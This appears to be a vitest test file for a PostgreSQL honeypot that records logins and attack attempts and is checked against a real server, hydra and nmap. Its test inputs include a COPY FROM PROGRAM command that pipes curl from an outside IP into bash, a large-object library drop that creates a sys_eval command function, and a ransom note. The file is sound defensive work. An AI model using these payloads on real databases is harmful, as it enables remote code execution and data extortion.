import { Buffer } from 'node:buffer';
import { execFileSync, spawn } from 'node:child_process';
import { chownSync, existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import process from 'node:process';
import { setTimeout as sleep } from 'node:timers/promises';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { DecoyOutput } from '../../core/decoy.ts';
import type { Persona } from '../../core/persona.ts';
import { createPersona } from '../../personas/index.ts';
import { int16, int32, postgresMessage, zeroText } from '../../wire/postgres-message.ts';
import { cut, exploitNames, replyText, stillContext, talk } from '../../../test/support/decoy-talk.ts';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { postgres } from './postgres.ts';

const base: Persona = {
  ...createPersona('debian-db', 'postgres test', { now: Date.parse('2026-03-01T12:00:00Z') }),
};

function persona(
  authentication: string,
  version = '13.14 (Debian 13.14-0+deb11u1)',
  more: Partial<Persona> = {},
): Persona {
  return {
    ...base,
    software: { postgres: { product: 'PostgreSQL', version, details: { authentication } } },
    login: { accepted: [], acceptAfter: 0 },
    ...more,
  };
}

function startup(user: string, database = 'postgres'): Buffer {
  const body = Buffer.concat([int32(196_608), ...['user', user, 'database', database, ''].map(zeroText)]);
  return Buffer.concat([int32(body.length + 4), body]);
}

const password = (text: string): Buffer => postgresMessage('p', zeroText(text));
const query = (text: string): Buffer => postgresMessage('Q', zeroText(text));

const ask = (who: Persona, ...statements: string[]): DecoyOutput[] =>
  talk(postgres, stillContext(who), [startup('postgres'), password('postgres'), ...statements.map(query)]);

const capturesOf = (outputs: readonly DecoyOutput[]): string[] =>
  outputs.flatMap((output) =>
    output.do === 'capture'
      ? [`${output.how} ${output.name ?? ''} ${Buffer.from(output.bytes).toString('latin1')}`]
      : [],
  );

describe('the postgres decoy', () => {
  it('records a password in clear, and the proof of one that stays hidden', () => {
    const clear = talk(postgres, stillContext(persona('password')), [startup('admin'), password('hunter2')]);
    expect(clear).toContainEqual({
      do: 'saw',
      fact: {
        kind: 'auth',
        service: 'postgres',
        user: 'admin',
        method: 'password',
        password: 'hunter2',
        accepted: false,
      },
    });
    expect(replyText(clear)).toContain(
      'SFATAL\0VFATAL\0C28P01\0Mpassword authentication failed for user "admin"\0',
    );
    const hidden = talk(postgres, stillContext(persona('md5')), [
      startup('admin'),
      password('md50123456789abcdef0123456789abcdef'),
    ]);
    expect(hidden).toContainEqual({
      do: 'saw',
      fact: {
        kind: 'auth',
        service: 'postgres',
        user: 'admin',
        method: 'other',
        password: '$postgres$admin*050c131a*0123456789abcdef0123456789abcdef',
        accepted: false,
      },
    });
  });

  it('runs what COPY … FROM PROGRAM asks for, and gives what it prints', () => {
    const outputs = ask(
      persona('password'),
      "DROP TABLE IF EXISTS c; CREATE TABLE c(o text); COPY c FROM PROGRAM 'echo hi; curl http://203.0.113.66/k.sh | bash'; SELECT * FROM c",
    );
    expect(exploitNames(outputs)).toEqual(['postgres-copy-program']);
    expect(outputs.find((output) => output.do === 'saw' && output.fact.kind === 'exploit')).toMatchObject({
      fact: { cves: ['CVE-2019-9193'] },
    });
    expect(replyText(outputs)).toContain('hi');
    expect(
      outputs.flatMap((output) =>
        output.do === 'saw' && output.fact.kind === 'command' ? (output.fact.urls ?? []) : [],
      ),
    ).toContain('http://203.0.113.66/k.sh');
  });

  it('keeps the library that comes as a large object, and lets it be made a function', () => {
    const outputs = ask(
      persona('password'),
      'SELECT lo_create(9023)',
      "INSERT INTO pg_largeobject (loid, pageno, data) VALUES (9023, 0, decode('7f454c4601', 'hex'))",
      "SELECT lo_export(9023, '/tmp/udf.so')",
      "CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/udf.so', 'sys_eval' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE",
      "SELECT sys_eval('whoami')",
    );
    expect(capturesOf(outputs)).toEqual(['postgres-lo-export /tmp/udf.so \x7fELF\x01']);
    expect(exploitNames(outputs)).toEqual([
      'postgres-library-drop',
      'postgres-library-function',
      'postgres-library-command',
    ]);
    expect(replyText(outputs)).toContain('postgres\n');
  });

  it('recognises data held to ransom and keeps the note', () => {
    const outputs = ask(
      persona('password'),
      'CREATE TABLE readme_now (t text)',
      "INSERT INTO readme_now VALUES ('Your data is backed up. Send 0.01 BTC to get it back')",
    );
    expect(exploitNames(outputs)).toContain('postgres-ransom-note');
    expect(capturesOf(outputs)[0]).toContain('0.01 BTC');
  });

  it('has no exploit to tell of in ordinary use', () => {
    expect(
      exploitNames(
        ask(
          persona('password'),
          'SELECT 1',
          'CREATE TABLE a (b int)',
          'INSERT INTO a VALUES (1)',
          'SHOW server_version',
        ),
      ),
    ).toEqual([]);
  });

  it('waits as pg_sleep asks, and ends work that has no end', () => {
    expect(ask(persona('password'), 'SELECT pg_sleep(2)')).toContainEqual({
      do: 'pause',
      milliseconds: 2000,
    });
    expect(
      replyText(
        ask(persona('password'), 'SELECT count(*) FROM pg_class a, pg_class b, pg_class c, pg_class d'),
      ),
    ).toContain('C57014');
    expect(replyText(ask(persona('password'), 'SELECT * FROM generate_series(1, 100000000)'))).toContain(
      'C57014',
    );
  });

  it('takes statements by the extended protocol', () => {
    const parse = postgresMessage('P', zeroText(''), zeroText('SELECT $1 AS a'), int16(0));
    const bind = postgresMessage(
      'B',
      zeroText(''),
      zeroText(''),
      int16(0),
      int16(1),
      int32(5),
      Buffer.from('hello'),
      int16(0),
    );
    const describePortal = postgresMessage('D', Buffer.from('P'), zeroText(''));
    const execute = postgresMessage('E', zeroText(''), int32(0));
    const sync = postgresMessage('S');
    const text = replyText(
      talk(postgres, stillContext(persona('password')), [
        startup('postgres'),
        password('postgres'),
        Buffer.concat([parse, bind, describePortal, execute, sync]),
      ]),
    );
    expect(text).toContain('1\0\0\0\x042\0\0\0\x04T');
    expect(text).toContain('D\0\0\0\x0f\0\x01\0\0\0\x05hello');
    expect(text.endsWith('C\0\0\0\rSELECT 1\0Z\0\0\0\x05I')).toBe(true);
  });

  it('knows its protocol and no other', () => {
    expect(postgres.recognise?.(startup('a'))).toBe(1);
    expect(postgres.recognise?.(Buffer.from('GET / HTTP/1.1\r\n'))).toBe(0);
    expect(
      replyText(talk(postgres, stillContext(persona('md5')), [Buffer.from('GET / HTTP/1.1\r\n\r\n')])),
    ).toBe('');
  });

  const words = fc.constantFrom(
    'SELECT',
    '1',
    '*',
    'FROM',
    'pg_class',
    'WHERE',
    "'a'",
    '(',
    ')',
    ',',
    'SHOW',
    'INSERT INTO',
    'VALUES',
    'CREATE TABLE',
    't',
    '(a int)',
    'DROP',
    'COPY',
    'PROGRAM',
    "'id'",
    'TO STDOUT',
    'FROM STDIN',
    ';',
    '=',
    '::int',
    'SET',
    '$1',
    'UNION',
    'LIMIT',
    'BEGIN',
    'ROLLBACK',
    '~',
    'CASE WHEN',
    'END',
    '$$',
    '/*',
    '"',
    'NULL',
    'AS',
    'JOIN',
    'ON',
    'pg_sleep(1)',
    'lo_create(0)',
    'ARRAY[',
    ']',
  );
  const statement = fc.array(words, { maxLength: 12 }).map((list) => query(list.join(' ')));
  const message = fc
    .tuple(
      fc.constantFrom('Q', 'P', 'B', 'D', 'E', 'S', 'C', 'd', 'c', 'f', 'p', 'x'),
      fc.uint8Array({ maxLength: 24 }),
    )
    .map(([type, body]) => postgresMessage(type, body));

  it('gives the same for any split of any bytes, and never throws', () => {
    const stream = fc
      .tuple(
        fc.constantFrom(
          Buffer.concat([startup('postgres'), password('postgres')]),
          startup('a'),
          Buffer.alloc(0),
        ),
        fc.array(fc.oneof(statement, statement, message, fc.uint8Array({ maxLength: 30 })), { maxLength: 5 }),
      )
      .map(([first, rest]) => Buffer.concat([first, ...rest]));
    const kind = fc.constantFrom('password', 'md5', 'scram-sha-256');
    fc.assert(
      fc.property(stream, kind, fc.array(fc.nat(300), { maxLength: 6 }), (bytes, authentication, places) => {
        const whole = talk(postgres, stillContext(persona(authentication)), [bytes]);
        expect(talk(postgres, stillContext(persona(authentication)), cut(bytes, places))).toEqual(whole);
      }),
      { numRuns: 150 },
    );
  });
});

async function run(
  program: string,
  args: readonly string[],
  environment: Readonly<Record<string, string>> = {},
): Promise<string> {
  const child = spawn(program, [...args], {
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { ...process.env, ...environment },
  });
  let text = '';
  child.stdout.on('data', (piece: Buffer) => (text += piece.toString()));
  child.stderr.on('data', (piece: Buffer) => (text += piece.toString()));
  await new Promise((resolve) => child.on('close', resolve));
  return text;
}

/** What both are given; each is followed by its SQLSTATE. */
const statements = `
SELECT 1;
SELECT 1 + 1 AS a, 'x', NULL, true, 7 / 2, 7 % 4, 'a' || 'b';
SELECT current_user, current_database(), current_schema();
SELECT 1/0;
selec 1;
SELECT;
SELECT * FROM nope;
SELECT * FROM a.b;
SELECT x;
SELECT t.x FROM pg_database d;
SELECT d.x FROM pg_database d;
SELECT foo();
SELECT foo(1, 'a');
SELECT 'abc'::int;
SELECT 'a' = 1;
SELECT 1 FROM;
SELECT (1;
SELECT 'abc;
';
SELECT count(*), max(a), sum(a), min(a) FROM (SELECT 1 AS a UNION SELECT 5) d;
SELECT 1 UNION SELECT 1, 2;
SELECT 2 UNION SELECT 1 ORDER BY 1;
SELECT upper('a'), length('abc'), substr('abcdef', 2, 3), md5('a'), replace('abc', 'b', 'x'), left('abc', 2), repeat('ab', 2), strpos('abc', 'b'), split_part('a,b', ',', 2);
SELECT coalesce(NULL, 2), nullif(1, 1), greatest(1, 3), CASE WHEN 1 = 2 THEN 'a' ELSE 'b' END;
SELECT 'abc' LIKE 'a%', 'abc' ~ '^a', 'ABC' ILIKE 'a%', 1 IN (1, 2), 3 BETWEEN 1 AND 5, NULL IS NULL;
SELECT encode('abc'::bytea, 'base64'), encode('abc'::bytea, 'hex');
SELECT array_to_string(ARRAY['a', 'b'], ','), string_to_array('a,b', ',');
SELECT * FROM generate_series(1, 3);
SELECT pg_sleep(0);
SHOW nope;
SHOW standard_conforming_strings;
SET nope = 1;
SET client_min_messages = warning;
BEGIN;
SELECT 1/0;
SELECT 1;
ROLLBACK;
BEGIN;
COMMIT;
DROP TABLE nope;
DROP TABLE IF EXISTS nope;
DROP DATABASE nope;
DROP DATABASE postgres;
DROP ROLE nope;
CREATE TABLE t (id serial, name varchar(20), note text);
CREATE TABLE t (a int);
CREATE TABLE u (a nothing);
INSERT INTO t (name, note) VALUES ('one', 'first'), ('two', NULL);
INSERT INTO t (b) VALUES (1);
INSERT INTO nope VALUES (1);
INSERT INTO t VALUES (1, 'a', 'b', 'c');
SELECT * FROM t;
SELECT name FROM t WHERE id > 1 ORDER BY id DESC LIMIT 1;
SELECT name, count(*) FROM t GROUP BY name ORDER BY name;
UPDATE t SET note = 'changed' WHERE id = 2;
UPDATE t SET nothing = 1;
DELETE FROM t WHERE id = 1;
SELECT note FROM t;
COPY t TO STDOUT;
COPY t FROM PROGRAM 'exit 3';
COPY t FROM '/nothing/here';
COPY nope FROM PROGRAM 'id';
CREATE TABLE o (line text);
COPY o FROM PROGRAM 'echo one; echo two';
SELECT * FROM o;
CREATE FUNCTION f(int) RETURNS int AS '/nothing/x.so', 'f' LANGUAGE C STRICT;
CREATE FUNCTION f(int) RETURNS int AS 'x' LANGUAGE plpython3u;
CREATE FUNCTION f(int) RETURNS int AS 'x' LANGUAGE nothing;
CREATE DATABASE postgres;
CREATE ROLE postgres;
SELECT lo_export(42, '/tmp/x');
SELECT pg_read_file('/nothing/here');
LOAD '/nothing/x.so';
SELECT relname, relkind FROM pg_class WHERE relname IN ('t', 'o') ORDER BY 1;
SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' ORDER BY 1;
SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'o';
\\dt
\\du
\\dn
\\d o
TRUNCATE t;
DROP TABLE t, o;
EXECUTE nothing;
foo bar;
`.trim();

const folders = existsSync('/usr/lib/postgresql') ? readdirSync('/usr/lib/postgresql').sort() : [];
const programs = join('/usr/lib/postgresql', folders.at(-1) ?? '', 'bin');
process.env['PATH'] = `${process.env['PATH'] ?? ''}:${programs}`;

describe('beside and before real programs', () => {
  // Output and errors by one pipe, so that their order stays.
  const psql = (port: number, file: string): Promise<string> =>
    run(
      'sh',
      ['-c', `psql -X -f ${file} 'postgresql://postgres@127.0.0.1:${port}/postgres?sslmode=disable' 2>&1`],
      { PGPASSWORD: 'postgres' },
    );

  needTools(['initdb', 'postgres', 'psql'])('answers as this system’s PostgreSQL does', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'postgres-'));
    // The server refuses to run as root.
    const owner = process.getuid?.() === 0 ? { uid: 65_534, gid: 65_534 } : {};
    if (process.getuid?.() === 0) chownSync(folder, 65_534, 65_534);
    writeFileSync(join(folder, 'password'), 'postgres\n', { mode: 0o644 });
    const data = join(folder, 'data');
    execFileSync(
      'initdb',
      [
        '-D',
        data,
        '-U',
        'postgres',
        '--auth=scram-sha-256',
        `--pwfile=${folder}/password`,
        '--encoding=UTF8',
        '--locale=C.UTF-8',
        '--no-sync',
      ],
      { stdio: 'ignore', cwd: folder, ...owner },
    );
    const probe = createServer();
    await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', resolve));
    const address = probe.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;
    await new Promise((resolve) => probe.close(resolve));
    const server = spawn(
      'postgres',
      ['-D', data, '-h', '127.0.0.1', '-p', String(port), '-k', folder, '-F'],
      { stdio: 'ignore', cwd: folder, ...owner },
    );
    try {
      const file = join(folder, 'script.sql');
      writeFileSync(file, statements.replaceAll(/;$/gm, ';\n\\echo :SQLSTATE'));
      let version = '';
      for (let tries = 0; tries < 100; tries += 1) {
        version = await run(
          'psql',
          ['-XtAc', 'show server_version', `postgresql://postgres@127.0.0.1:${port}/postgres`],
          { PGPASSWORD: 'postgres' },
        );
        if (/^\d/.test(version)) break;
        await sleep(100);
      }
      await using served = await serveDecoy(
        postgres,
        persona('scram-sha-256', version.trim(), { tls: null }),
      );
      const [real, ours] = [await psql(port, file), await psql(served.port, file)];
      // The application whose tables lie in another database has a role, which the new cluster has not.
      const shown = (text: string): string =>
        text
          .split(folder)
          .join('')
          .replace(/^ (?:app|shop|store|crm|portal|billing|production|webapp) .*\n/m, '');
      expect(shown(ours)).toBe(shown(real));
      for (const [user, secret, database] of [
        ['postgres', 'wrong', 'postgres'],
        ['nobody', 'x', 'postgres'],
        ['postgres', 'postgres', 'nope'],
      ] as const) {
        const texts: string[] = [];
        for (const each of [port, served.port]) {
          const text = await run(
            'psql',
            ['-X', '-c', 'select 1', `postgresql://${user}@127.0.0.1:${each}/${database}?sslmode=disable`],
            { PGPASSWORD: secret },
          );
          texts.push(text.replaceAll(String(each), 'PORT'));
        }
        expect(texts[1]).toBe(texts[0]);
      }
      expect(served.errors).toEqual([]);
    } finally {
      server.kill('SIGKILL');
      await new Promise((resolve) => server.once('exit', resolve));
      rmSync(folder, { recursive: true, force: true });
    }
  });

  needTools(['psql'])('serves psql inside TLS', async () => {
    await using served = await serveDecoy(postgres, persona('scram-sha-256'));
    const text = await run(
      'psql',
      [
        '-XtAc',
        'select version()',
        `postgresql://postgres@127.0.0.1:${served.port}/postgres?sslmode=require`,
      ],
      { PGPASSWORD: 'postgres' },
    );
    expect(text).toContain('PostgreSQL 13.14 (Debian 13.14-0+deb11u1) on x86_64-pc-linux-gnu');
    expect(served.errors).toEqual([]);
  });

  needTools(['hydra'])('is guessed by hydra', async () => {
    for (const kind of ['md5', 'password']) {
      await using served = await serveDecoy(postgres, persona(kind, undefined, { tls: null }));
      const folder = mkdtempSync(join(tmpdir(), 'hydra-'));
      try {
        writeFileSync(join(folder, 'list'), 'one\npostgres\n');
        const text = await run(
          'hydra',
          [
            '-I',
            '-t',
            '1',
            '-l',
            'postgres',
            '-P',
            join(folder, 'list'),
            '-s',
            String(served.port),
            'postgres://127.0.0.1',
          ],
          { PGPORT: String(served.port) },
        );
        expect(text, kind).toContain('password: postgres');
        expect(served.facts.some((fact) => fact.kind === 'auth' && fact.accepted)).toBe(true);
      } finally {
        rmSync(folder, { recursive: true, force: true });
      }
    }
  });

  needTools(['nmap'])('is named by nmap', async () => {
    await using served = await serveDecoy(postgres, persona('md5', undefined, { tls: null }));
    const text = await run('nmap', ['-Pn', '-sV', '-p', String(served.port), '127.0.0.1']);
    expect(text).toMatch(/open\s+postgresql\s+PostgreSQL/);
    expect(served.errors).toEqual([]);
  });
});
